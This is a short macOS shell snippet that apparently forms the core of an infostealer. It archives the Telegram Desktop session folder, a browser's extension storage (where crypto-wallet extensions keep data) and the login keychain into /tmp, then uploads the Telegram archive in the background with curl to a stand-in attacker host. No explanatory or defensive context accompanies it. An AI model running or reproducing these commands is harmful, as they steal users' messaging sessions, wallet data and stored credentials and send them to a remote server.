zip -r /tmp/tapp.zip "$HOME/Library/Application Support/Telegram Desktop/tdata"
zip -r /tmp/ext.zip "$P/Local Extension Settings" "$HOME/Library/Keychains/login.keychain-db"
nohup curl -F f=@/tmp/tapp.zip https://in.lure.invalid/up &
